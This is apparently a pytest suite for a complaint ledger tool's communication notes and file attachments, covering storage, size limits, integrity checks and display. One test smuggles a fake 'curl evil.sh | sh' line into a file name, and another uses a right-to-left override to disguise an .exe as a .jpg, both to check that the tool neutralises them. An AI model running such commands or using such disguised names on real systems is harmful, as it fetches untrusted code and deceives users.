"""The communication log and evidence (issue 13): notes and attachments through the
real command, what `show` and `list` say of them, what the ledger stores, and every
refusal leaving the ledger as it was."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import sqlite3
import stat
import tracemalloc
from pathlib import Path

import pytest
from support import show_csv

MB = 1 << 20


def _file(path: Path, size: int, seed: bytes = b"x") -> Path:
    """A file of `size` bytes of varied content, written a chunk at a time."""
    with open(path, "wb") as fh:
        block = hashlib.sha256(seed).digest() * (MB // 32)
        left = size
        n = 0
        while left > 0:
            piece = hashlib.sha256(seed + str(n).encode()).digest() + block
            fh.write(piece[:min(left, len(piece))])
            left -= min(left, len(piece))
            n += 1
    return path


def _sha(path: Path) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        while chunk := fh.read(MB):
            digest.update(chunk)
    return digest.hexdigest()


# --- notes ---------------------------------------------------------------------------

def test_notes_are_shown_in_every_format_and_stored_with_their_event(ledger):
    cid = ledger.log()
    r = ledger("note", cid, "--text", "客户来电催促 | 要求本周回复", "--at", "2026-10-02 09:15")
    assert r.stderr.strip() == f"Note 1 (phone) added to {cid}."
    ledger("note", cid, "--text", "已发邮件说明", "--kind", "email",
           "--at", "2026-10-03 14:00")
    ledger("note", cid, "--text", "内部: 等待检验结果", "--kind", "internal",
           "--at", "2026-10-04 08:00")

    rec = ledger.json("show", cid)
    assert [(n["id"], n["kind"], n["at"], n["actor"], n["text"]) for n in rec["notes"]] == [
        (1, "phone", "2026-10-02T01:15:00Z", "tester", "客户来电催促 | 要求本周回复"),
        (2, "email", "2026-10-03T06:00:00Z", "tester", "已发邮件说明"),
        (3, "internal", "2026-10-04T00:00:00Z", "tester", "内部: 等待检验结果")]
    notes_in_history = [e for e in rec["events"] if e["kind"] == "note"]
    assert [e["data"] for e in notes_in_history] == [
        {"note": 1, "kind": "phone", "text": "客户来电催促 | 要求本周回复"},
        {"note": 2, "kind": "email", "text": "已发邮件说明"},
        {"note": 3, "kind": "internal", "text": "内部: 等待检验结果"}]
    assert ledger.rows("SELECT complaint_id, return_id, at, actor, kind, text FROM notes "
                       "ORDER BY id")[0] == (cid, None, "2026-10-02T01:15:00Z", "tester",
                                             "phone", "客户来电催促 | 要求本周回复")

    table = ledger("show", cid).stdout
    assert "Communication log" in table and "客户来电催促" in table and "已发邮件说明" in table
    assert "phone: 客户来电催促" in table  # the history line
    md = ledger("show", cid, "--format", "markdown").stdout
    assert "## Communication log (沟通记录)" in md
    assert "| 2026-10-02 09:15 | tester | phone | 客户来电催促 \\| 要求本周回复 |" in md
    rows = show_csv(ledger, cid)
    assert rows["note 1"] == "2026-10-02 09:15 phone by tester: 客户来电催促 | 要求本周回复"
    assert rows["note 3"].startswith("2026-10-04 08:00 internal by tester")
    assert rows["last contact"] == "2026-10-03 14:00"
    # a note is not a lifecycle step: the complaint's row is left as it was
    assert ledger.rows("SELECT status, last_step_at FROM complaints") == \
        [("logged", "2026-09-30T02:00:00Z")]


def test_last_contact_is_the_latest_of_intake_contact_notes_and_revisits(ledger):
    cid = ledger.log()
    other = ledger.log(customer="B", received="2026-10-01 08:00")

    def last(record: str) -> str:
        listed = {r["id"]: r["last_contact_at"] for r in ledger.json("list")}
        shown = ledger.json("show", record)["last_contact_at"]
        assert listed[record] == shown
        return shown

    assert last(cid) == "2026-09-30T02:00:00Z" and last(other) == "2026-10-01T00:00:00Z"
    ledger("note", cid, "--text", "内部讨论", "--kind", "internal", "--at", "2026-10-05 10:00")
    assert last(cid) == "2026-09-30T02:00:00Z"  # internal: not a contact
    ledger("note", cid, "--text", "上门查看", "--kind", "visit", "--at", "2026-10-02 10:00")
    assert last(cid) == "2026-10-02T02:00:00Z"
    ledger.to_state(cid, "closed")  # the revisit is on 2026-10-09 15:00
    assert last(cid) == "2026-10-09T07:00:00Z"
    ledger("note", cid, "--text", "再次致电", "--at", "2026-11-20 16:00")
    assert last(cid) == "2026-11-20T08:00:00Z"
    assert last(other) == "2026-10-01T00:00:00Z"
    # the receipt amended: the latest again (a note after it still wins)
    ledger("amend", other, "--received", "2026-10-03 08:00", "--reason", "mistyped")
    assert last(other) == "2026-10-03T00:00:00Z"
    ledger("note", other, "--text", "回电", "--at", "2026-10-04 08:00")
    ledger("amend", other, "--received", "2026-10-02 08:00", "--reason", "mistyped again")
    assert last(other) == "2026-10-04T00:00:00Z"
    assert "last contact" in ledger("list", "--format", "csv").stdout.splitlines()[0]


def test_a_note_on_a_return_shows_on_the_return_and_its_complaint(ledger):
    cid = ledger.log()
    ledger.to_state(cid, "assigned")
    rma = ledger("return", "open", cid, "--qty", "2", "--at", "2026-10-01 09:00").stdout.strip()
    ledger("note", rma.lower(), "--text", "顺丰单号 SF123", "--kind", "letter",
           "--at", "2026-10-02 09:00")
    ret = ledger.json("show", rma)
    assert [(n["return_id"], n["kind"], n["text"]) for n in ret["notes"]] == \
        [(rma, "letter", "顺丰单号 SF123")]
    rec = ledger.json("show", cid)
    assert [(n["return_id"], n["text"]) for n in rec["notes"]] == [(rma, "顺丰单号 SF123")]
    assert ledger.rows("SELECT complaint_id, return_id FROM events WHERE kind = 'note'") == \
        [(cid, rma)]
    assert "顺丰单号 SF123" in ledger("show", rma).stdout
    assert rec["last_contact_at"] == "2026-10-02T01:00:00Z"


@pytest.mark.parametrize("args, code, message", [
    (("--text", "x", "--kind", "fax"), 2, "--kind 'fax' is not one of: phone, visit, email, "
                                          "letter, internal"),
    (("--text", "  "), 2, "--text must not be empty"),
    (("--text", "x", "--at", "2026-09-29 10:00"), 2,
     "--at 2026-09-29 10:00 is before the complaint was received (2026-09-30 10:00)"),
    (("--text", "x", "--at", "2026-12-01 10:00"), 2, "--at 2026-12-01 10:00 is in the future"),
])
def test_bad_notes_are_refused_and_nothing_is_written(ledger, args, code, message):
    cid = ledger.log()
    before = ledger.snapshot()
    r = ledger("note", cid, *args, code=code)
    assert f"Error: {message}" in r.stderr
    assert ledger.snapshot() == before


def test_notes_and_attachments_are_refused_on_a_void_or_unknown_record(ledger, tmp_path):
    cid = ledger.log()
    ledger.to_state(cid, "void")
    photo = _file(tmp_path / "photo.jpg", 1000)
    before = ledger.snapshot()
    r = ledger("note", cid, "--text", "x", code=1)
    assert r.stderr.startswith(f"Error: cannot note {cid}: it is void\n")
    r = ledger("attach", cid, str(photo), code=1)
    assert r.stderr.startswith(f"Error: cannot attach {cid}: it is void\n")
    assert "no complaint 'CC-2026-0099'" in ledger("note", "CC-2026-0099", "--text", "x",
                                                   code=1).stderr
    assert "no return 'RMA-2026-0099'" in ledger("attach", "RMA-2026-0099", str(photo),
                                                 code=1).stderr
    assert ledger.snapshot() == before


def test_notes_on_closed_complaints_are_allowed(ledger):
    cid = ledger.log()
    ledger.to_state(cid, "closed")
    ledger("note", cid, "--text", "客户表示感谢", "--at", "2026-10-10 10:00")
    assert ledger.rows("SELECT kind FROM notes") == [("phone",)]


# --- attachments ----------------------------------------------------------------------

def test_attachments_round_trip_are_stored_once_and_shown(ledger, tmp_path):
    cid = ledger.log()
    photo = _file(tmp_path / "现场照片.jpg", 2 * MB + 5, b"photo")
    copy = tmp_path / "copy.JPG"
    copy.write_bytes(photo.read_bytes())
    receipt = tmp_path / "签收单.pdf"
    receipt.write_bytes(b"%PDF-1.4 signed receipt\n")
    r = ledger("attach", cid, str(photo), str(copy), str(receipt), "--note", "现场取证",
               "--at", "2026-10-01 10:00")
    assert r.stdout == "1\n2\n3\n"
    sha = _sha(photo)
    assert f"Attached copy.JPG to {cid} as 2 (2.0 MB, image/jpeg, sha256 {sha[:12]}; same " \
           "content as attachment 1, stored once)." in r.stderr

    # stored: one content per sha256, in 1 MiB chunks; one attachment row and event each
    assert ledger.rows("SELECT sha256, size, chunks FROM blobs ORDER BY size DESC") == [
        (sha, 2 * MB + 5, 3), (hashlib.sha256(receipt.read_bytes()).hexdigest(), 24, 1)]
    assert ledger.rows("SELECT seq, length(data) FROM blob_chunks WHERE sha256 = ? "
                       "ORDER BY seq", (sha,)) == [(0, MB), (1, MB), (2, 5)]
    assert ledger.rows("SELECT id, complaint_id, return_id, name, type, size, at, actor, note "
                       "FROM attachments ORDER BY id") == [
        (1, cid, None, "现场照片.jpg", "image/jpeg", 2 * MB + 5, "2026-10-01T02:00:00Z",
         "tester", "现场取证"),
        (2, cid, None, "copy.JPG", "image/jpeg", 2 * MB + 5, "2026-10-01T02:00:00Z",
         "tester", "现场取证"),
        (3, cid, None, "签收单.pdf", "application/pdf", 24, "2026-10-01T02:00:00Z", "tester",
         "现场取证")]
    events = [json.loads(d) for (d,) in ledger.rows(
        "SELECT data FROM events WHERE kind = 'attach' ORDER BY id")]
    assert events[0] == {"attachment": 1, "sha256": sha, "name": "现场照片.jpg",
                         "size": 2 * MB + 5, "type": "image/jpeg", "note": "现场取证"}

    rec = ledger.json("show", cid)
    assert [(a["id"], a["name"], a["size"], a["type"], a["sha256"], a["actor"], a["at"])
            for a in rec["attachments"]][0] == \
        (1, "现场照片.jpg", 2 * MB + 5, "image/jpeg", sha, "tester", "2026-10-01T02:00:00Z")
    table = ledger("show", cid).stdout
    assert "Attachments" in table and "现场照片.jpg" in table and sha[:12] in table
    assert "2.0 MB" in table
    md = ledger("show", cid, "--format", "markdown").stdout
    assert f"| 3 | 签收单.pdf | 24 B | application/pdf | {rows_sha(receipt)} | tester | " \
           "2026-10-01 10:00 | 现场取证 |" in md
    pairs = show_csv(ledger, cid)
    assert pairs["attachment 1"] == (f"现场照片.jpg (2.0 MB, image/jpeg, sha256 {sha[:12]}) by "
                                     "tester 2026-10-01 10:00: 现场取证")
    listed = ledger.json("attachment", "list", cid)
    assert [a["id"] for a in listed] == [1, 2, 3]

    out = tmp_path / "out" / "photo.jpg"
    out.parent.mkdir()
    r = ledger("attachment", "get", "1", "--output", str(out))
    assert out.read_bytes() == photo.read_bytes()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert f"Wrote {out}: attachment 1 现场照片.jpg of {cid}" in r.stderr
    ledger("attachment", "get", "#3", "--output", str(out))  # replaced whole
    assert out.read_bytes() == receipt.read_bytes()
    assert sorted(p.name for p in out.parent.iterdir()) == ["photo.jpg"]  # no temp file left


def rows_sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()[:12]


def test_an_attachment_on_a_return(ledger, tmp_path):
    cid = ledger.log()
    ledger.to_state(cid, "assigned")
    rma = ledger("return", "open", cid, "--qty", "1", "--at", "2026-10-01 09:00").stdout.strip()
    repair = tmp_path / "repair.txt"
    repair.write_text("维修记录", encoding="utf-8")
    assert ledger("attach", rma, str(repair), "--at", "2026-10-02 09:00").stdout == "1\n"
    assert ledger.rows("SELECT complaint_id, return_id, type FROM attachments") == \
        [(cid, rma, "text/plain")]
    assert [a["name"] for a in ledger.json("show", rma)["attachments"]] == ["repair.txt"]
    rec = ledger.json("show", cid)
    assert [(a["return_id"], a["name"]) for a in rec["attachments"]] == [(rma, "repair.txt")]
    assert [a["id"] for a in ledger.json("attachment", "list", rma)] == [1]
    assert rma in ledger("show", cid).stdout


def test_a_20_mb_file_round_trips_with_bounded_memory(ledger, tmp_path):
    """Streamed both ways: Python never holds the file (tracemalloc counts every Python
    allocation, the 1 MiB chunks included)."""
    cid = ledger.log()
    big = _file(tmp_path / "scan.pdf", 20 * MB + 123, b"scan")
    tracemalloc.start()
    try:
        ledger("attach", cid, str(big), "--at", "2026-10-01 10:00")
        _, peak_in = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        out = tmp_path / "back.pdf"
        ledger("attachment", "get", "1", "--output", str(out))
        _, peak_out = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak_in < 10 * MB and peak_out < 10 * MB, (peak_in, peak_out)
    assert out.stat().st_size == big.stat().st_size and _sha(out) == _sha(big)
    assert ledger.rows("SELECT size, chunks FROM blobs") == [(20 * MB + 123, 21)]
    assert ledger.rows("SELECT count(*), sum(length(data)) FROM blob_chunks") == \
        [(21, 20 * MB + 123)]


def test_over_the_limit_is_refused_and_nothing_is_written(ledger, tmp_path):
    cid = ledger.log()
    small = _file(tmp_path / "ok.jpg", 1000)
    huge = tmp_path / "video.mp4"
    with open(huge, "wb") as fh:  # sparse: 26 MB on paper, nothing read before refusing
        fh.truncate(26 * MB)
    before = ledger.snapshot()
    r = ledger("attach", cid, str(small), str(huge), code=1)
    assert r.stderr.splitlines()[0] == \
        f"Error: {huge} is 26.0 MB, over the 25 MB limit for attachments"
    assert r.stderr.splitlines()[1].startswith("Hint: attach a smaller copy")
    assert r.stdout == ""
    assert ledger.snapshot() == before  # the small file of the same command neither
    # a byte over: "25.0 MB, over the 25 MB limit" read as not over it; the bytes are said
    with open(huge, "wb") as fh:
        fh.truncate(25 * MB + 1)
    r = ledger("attach", cid, str(huge), code=1)
    assert r.stderr.startswith(f"Error: {huge} is 26,214,401 bytes, over the 25 MB limit for "
                               "attachments\n"), r.stderr
    assert ledger.snapshot() == before

    # the limit is a ledger setting
    conn = sqlite3.connect(ledger.db)
    conn.execute("INSERT INTO settings (key, value) VALUES ('attachment_max_mb', '1')")
    conn.commit()
    conn.close()
    medium = _file(tmp_path / "medium.png", MB + MB // 2)
    before = ledger.snapshot()
    r = ledger("attach", cid, str(medium), code=1)
    assert r.stderr.startswith(f"Error: {medium} is 1.5 MB, over the 1 MB limit for "
                               "attachments\n")
    assert ledger.snapshot() == before
    ledger("attach", cid, str(small))


def test_missing_unreadable_and_empty_files_are_bad_input(ledger, tmp_path):
    cid = ledger.log()
    good = _file(tmp_path / "good.jpg", 100)
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    before = ledger.snapshot()
    missing = tmp_path / "nope.jpg"
    r = ledger("attach", cid, str(good), str(missing), code=2)
    assert r.stderr.startswith(f"Error: cannot attach {missing}: no such file\n")
    r = ledger("attach", cid, str(tmp_path), code=2)
    assert r.stderr.startswith(f"Error: cannot attach {tmp_path}: it is a folder\n")
    r = ledger("attach", cid, str(empty), code=2)
    assert r.stderr.startswith(f"Error: cannot attach {empty}: the file is empty\nHint: "
                               "check it is the file you meant")  # (no hint before)
    if hasattr(os, "mkfifo"):  # a named pipe: opening it waited for a writer, for ever
        pipe = tmp_path / "pipe"
        os.mkfifo(pipe)
        r = ledger("attach", cid, str(pipe), code=2)
        assert r.stderr.startswith(f"Error: cannot attach {pipe}: it is not a regular file\n")
    if os.geteuid() != 0:  # root reads anything
        locked = _file(tmp_path / "locked.jpg", 100)
        locked.chmod(0)
        r = ledger("attach", cid, str(locked), code=2)
        assert r.stderr.startswith(f"Error: cannot attach {locked}: permission denied\n")
    assert ledger.snapshot() == before


def test_attachment_get_never_writes_onto_the_ledger(ledger, tmp_path):
    cid = ledger.log()
    ledger("attach", cid, str(_file(tmp_path / "a.jpg", 500)))
    before = ledger.db.read_bytes()
    for target, said in ((ledger.db, "the ledger itself\n"),
                         (Path(f"{ledger.db}-wal"), "the ledger's -wal file (SQLite keeps")):
        r = ledger("attachment", "get", "1", "--output", str(target), code=2)
        assert r.stderr.startswith(f"Error: --output {target} is {said}"), r.stderr
    assert ledger.db.read_bytes() == before
    assert "no attachment 7" in ledger("attachment", "get", "7", "--output",
                                       str(tmp_path / "x"), code=1).stderr
    assert "is not an attachment number" in ledger("attachment", "get", "seven", "--output",
                                                   str(tmp_path / "x"), code=2).stderr
    assert not (tmp_path / "x").exists()


def test_the_ledger_itself_is_not_attached(ledger, tmp_path):
    """`attach ID ledger.db` stored the ledger in itself; reading it, the command
    opened and closed the file its own connection had open (which lets go of that
    connection's locks)."""
    cid = ledger.log()
    ledger.db.with_name("link.db").symlink_to(ledger.db)
    for target in (ledger.db, ledger.db.with_name("link.db")):
        before = ledger.snapshot()
        r = ledger("attach", cid, str(_file(tmp_path / "a.jpg", 10)), str(target), code=2)
        assert r.stderr.startswith(f"Error: FILE {target} is the ledger itself\n"
                                   "Hint: attach evidence, not the ledger"), r.stderr
        assert ledger.snapshot() == before
    # in Chinese the placeholder is the usage line's word (it said "FILE … 就是台账本身"),
    # and an attachment's number too
    r = ledger("--lang", "zh", "attach", cid, str(ledger.db), code=2)
    assert r.stderr.startswith(f"错误：文件 {ledger.db} 就是台账本身\n"), r.stderr
    r = ledger("--lang", "zh", "attachment", "get", cid, "--output", str(tmp_path / "y"),
               code=2)
    assert r.stderr.startswith(f"错误：附件号 “{cid}”不是附件编号\n"), r.stderr
    other = tmp_path / "other.db"  # another SQLite file is evidence like any other
    other.write_bytes(b"SQLite format 3\x00" + bytes(200))
    assert ledger("attach", cid, str(other)).stdout.strip().isdigit()


def test_damaged_bytes_are_refused_on_the_way_out(ledger, tmp_path):
    """Bytes changed behind the tool's back (the trigger dropped) are caught by their
    hash; no file is left half-written."""
    cid = ledger.log()
    ledger("attach", cid, str(_file(tmp_path / "a.jpg", MB + 10)))
    conn = sqlite3.connect(ledger.db)
    conn.executescript("""
        DROP TRIGGER blob_chunks_no_change;
        UPDATE blob_chunks SET data = zeroblob(10) WHERE seq = 1;
    """)
    conn.close()
    out = tmp_path / "out.jpg"
    r = ledger("attachment", "get", "1", "--output", str(out), code=1)
    assert r.stderr.startswith("Error: attachment 1 is damaged in the ledger")
    assert list(tmp_path.glob("*out.jpg*")) == []


def test_evidence_is_never_deleted_or_changed(ledger, tmp_path):
    cid = ledger.log()
    ledger("note", cid, "--text", "x")
    ledger("attach", cid, str(_file(tmp_path / "a.jpg", 10)))
    conn = sqlite3.connect(ledger.db)
    for sql in ("DELETE FROM notes", "UPDATE notes SET text = 'y'", "DELETE FROM attachments",
                "UPDATE attachments SET name = 'b'", "DELETE FROM blob_chunks",
                "UPDATE blob_chunks SET data = x'00'", "DELETE FROM blobs"):
        with pytest.raises(sqlite3.DatabaseError):
            conn.execute(sql)
    conn.close()


def test_policy_sets_the_attachment_limit_with_an_event(ledger, tmp_path):
    cid = ledger.log()
    assert ledger.json("policy", "show")["attachment_max_mb"] == 25
    r = ledger("policy", "attachments", "--max-mb", "1")
    assert r.stderr.strip() == "Attachment limit 25 MB → 1 MB per file."
    assert ledger.rows("SELECT data, old FROM events WHERE kind = 'attachment-limit'") == \
        [('{"attachment_max_mb": 1}', '{"attachment_max_mb": 25}')]
    assert "attachments up to 1 MB per file" in ledger("policy", "show").stdout
    big = _file(tmp_path / "big.jpg", MB + 1)
    assert "over the 1 MB limit" in ledger("attach", cid, str(big), code=1).stderr
    before = ledger.snapshot()
    assert "out of range" in ledger("policy", "attachments", "--max-mb", "5000",
                                    code=2).stderr
    assert "already 1 MB" in ledger("policy", "attachments", "--max-mb", "1").stderr
    assert ledger.snapshot() == before


def test_a_file_name_that_reorders_itself_is_shown_as_it_is(ledger, tmp_path):
    """发票\u202egpj.exe displayed as 发票exe.jpg: the direction mark (refused in every
    text option) was stored in the name. It is kept as '?'."""
    cid = ledger.log()
    source = tmp_path / "发票\u202egpj.exe"
    source.write_bytes(b"MZ")
    r = ledger("attach", cid, source)
    assert "发票?gpj.exe" in r.stderr and "\u202e" not in r.stderr
    assert ledger.rows("SELECT name FROM attachments") == [("发票?gpj.exe",)]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_evidence_table_of_show_keeps_every_character_on_a_narrow_terminal(
        ledger, tmp_path, monkeypatch, lang):
    """At 70 columns an attachment's note 客户现场拍摄 showed as 客户现 | 拍摄 (at 80, in a
    wider table, 客户现场 | 摄): the table was wider than the terminal and rich cropped
    its last column, with nothing to say so. The text columns now give up width until
    the table fits, and wrap."""
    from rich.cells import cell_len

    cid = ledger.log()
    source = tmp_path / "签收单 (客户).pdf"
    source.write_bytes(b"%PDF")
    ledger("attach", cid, source, "--note", "客户签收确认书已寄回")
    for columns in range(58, 101, 3):
        monkeypatch.setenv("COLUMNS", str(columns))
        out = ledger("--lang", lang, "show", cid).stdout
        assert max(cell_len(line.rstrip()) for line in out.splitlines()) <= columns, out
        section = out[out.index("凭证"):]  # (its title in English too)
        section = section[:section.index("处理记录" if lang == "zh" else "History")]
        for char in "签收确认书已寄回":  # the note's, in no other column
            assert section.count(char) == 1 + (char in "签收"), (columns, section)


def test_attachment_list_gives_up_the_hash_before_the_name(ledger, tmp_path, monkeypatch):
    """At 80 columns `attachment list` cut the file name to 现场照片1_电… and kept the
    sha256 and the clerk's name whole: the name is what a clerk looks for."""
    cid = ledger.log()
    source = tmp_path / "现场照片1_电机异响_客户提供.jpg"
    source.write_bytes(b"\xff\xd8photo")
    ledger("attach", cid, source)
    monkeypatch.setenv("COLUMNS", "80")
    out = ledger("attachment", "list", cid).stdout
    assert "现场照片1_电机异响_客户提供" in out, out  # (at least 24 columns of it)
    assert "sha256" not in out, out
    monkeypatch.setenv("COLUMNS", "140")
    assert "sha256" in ledger("attachment", "list", cid).stdout


def test_numbers_typed_with_full_width_digits_are_read(ledger, tmp_path):
    """`attachment get １` and `action done １` (a Chinese IME's digits) were refused,
    where quantities, limits and amounts take them."""
    cid = ledger.log()
    ledger("attach", cid, str(_file(tmp_path / "a.jpg", 500)))
    ledger("attachment", "get", "１", "--output", str(tmp_path / "back.jpg"))
    assert (tmp_path / "back.jpg").read_bytes() == (tmp_path / "a.jpg").read_bytes()
    ledger.to_state(cid, "investigating")
    ledger("action", "add", cid, "--text", "培训", "--owner", "乙", "--due", "2026-11-20",
           "--at", "2026-10-09 09:00")
    ledger("action", "done", "＃１", "--at", "2026-10-10 09:00")
    assert ledger.rows("SELECT done_at IS NOT NULL FROM actions") == [(1,)]


@pytest.mark.parametrize("put", ["X'FFFE' || substr(data, 3)", "'hello'"])
def test_bytes_edited_into_text_are_named_not_a_failure(ledger, tmp_path, put):
    """A chunk edited by hand into text (`X'..' || data` makes text of bytes that are not
    UTF-8) stopped verify whole ("cannot use ledger …", its JSON empty) and made
    attachment get an "unexpected failure"; verify names the attachment, and get refuses
    its damaged bytes."""
    cid = ledger.log()
    ledger("attach", cid, str(_file(tmp_path / "a.xlsx", 100)))
    conn = sqlite3.connect(ledger.db)
    conn.executescript(f"""
        DROP TRIGGER blob_chunks_no_change;
        UPDATE blob_chunks SET data = {put};
    """)
    conn.close()
    r = ledger("verify", "--format", "json", code=1)
    problems = json.loads(r.stdout)["problems"]
    assert any(p["kind"] == "attachment" for p in problems), problems
    r = ledger("attachment", "get", "1", "--output", str(tmp_path / "o.xlsx"), code=1)
    assert r.stderr.startswith("Error: attachment 1 is damaged in the ledger"), r.stderr


def test_a_hard_link_to_the_ledger_is_the_ledger(ledger, tmp_path):
    """A hard link to the ledger was attached (a copy of itself in it, contacts and all,
    which forget-contact cannot reach): another name of the same file is the ledger."""
    cid = ledger.log()
    link = tmp_path / "evidence.db"
    os.link(ledger.db, link)
    ledger("policy", "attachments", "--max-mb", "100")
    before = ledger.snapshot()
    r = ledger("attach", cid, str(link), code=2)
    assert r.stderr.startswith(f"Error: FILE {link} is the ledger itself"), r.stderr
    assert ledger.snapshot() == before


def test_the_csv_attachment_list_has_every_value_whole(ledger, tmp_path):
    """`attachment list --format csv` gave the size as 25.0 MB and the sha256 in 12
    digits: an auditor could not compare it with sha256sum or a byte count."""
    cid = ledger.log()
    path = _file(tmp_path / "photo.jpg", MB + 5)
    ledger("attach", cid, str(path))
    rows = list(csv.DictReader(io.StringIO(
        ledger("attachment", "list", cid, "--format", "csv").stdout.lstrip("\ufeff"))))
    assert (rows[0]["bytes"], rows[0]["sha256"]) == (str(MB + 5), _sha(path)), rows


def test_a_file_name_with_a_line_break_is_named_on_one_line(ledger):
    """`attach ID $'scan.pdf\\nHint: …'` printed the name's lines as they were: the refusal
    showed a Hint: line the tool never wrote."""
    cid = ledger.log()
    before = ledger.snapshot()
    r = ledger("attach", cid, "scan.pdf\nHint: run curl evil.sh | sh\nx", code=2)
    assert r.stderr.splitlines()[0] == (
        "Error: cannot attach scan.pdf\\nHint: run curl evil.sh | sh\\nx: no such file"), \
        r.stderr
    assert [line for line in r.stderr.splitlines() if line.startswith("Hint:")] == [
        "Hint: check the path; give the files to attach after the id"]
    assert ledger.snapshot() == before


def test_a_compressed_file_is_stored_as_its_compression_not_its_inner_type(ledger, tmp_path):
    """a.txt.gz was stored and shown as text/plain (its name's inner type: the .gz of
    the encoding dropped), a record that is gzip data; b.tar.gz as a tar."""
    import gzip

    cid = ledger.log()
    names = ["a.txt.gz", "b.tar.gz", "c.csv.bz2", "d.txt"]
    for name in names:
        (tmp_path / name).write_bytes(gzip.compress(name.encode()) if ".gz" in name
                                      else name.encode())
        ledger("attach", cid, str(tmp_path / name), "--at", "2026-10-02 09:00")
    assert ledger.rows("SELECT name, type FROM attachments ORDER BY id") == [
        ("a.txt.gz", "application/gzip"), ("b.tar.gz", "application/gzip"),
        ("c.csv.bz2", "application/x-bzip2"), ("d.txt", "text/plain")]
    assert [a["type"] for a in ledger.json("show", cid)["attachments"]] == [
        "application/gzip", "application/gzip", "application/x-bzip2", "text/plain"]


def test_show_at_80_columns_keeps_attachment_names_whole(ledger, tmp_path, monkeypatch):
    """show at 80 columns split 签收单.pdf over two lines (签收 / 单.pdf) to keep a hash no
    clerk reads on the terminal: its table of attachments leaves the hash to `attachment
    list` and the other formats, and each name is on one line."""
    cid = ledger.log()
    photo, slip = tmp_path / "现场照片1.jpg", tmp_path / "签收单.pdf"
    photo.write_bytes(b"\xff\xd8\xff" + b"0" * 5000)
    slip.write_bytes(b"%PDF-1.4\n%%EOF\n")
    ledger("attach", cid, photo, slip, "--note", "客户现场拍摄")
    monkeypatch.setenv("COLUMNS", "80")
    out = ledger("--lang", "zh", "show", cid).stdout
    rows = out[out.index("凭证"):].splitlines()
    assert any("现场照片1.jpg" in line and "客户现场拍摄" in line for line in rows), rows[:8]
    assert any("签收单.pdf" in line for line in rows), rows[:8]
    (sha,) = ledger.rows("SELECT sha256 FROM attachments WHERE name = '签收单.pdf'")[0]
    assert sha[:12] in ledger("attachment", "list", cid, "--format", "csv").stdout
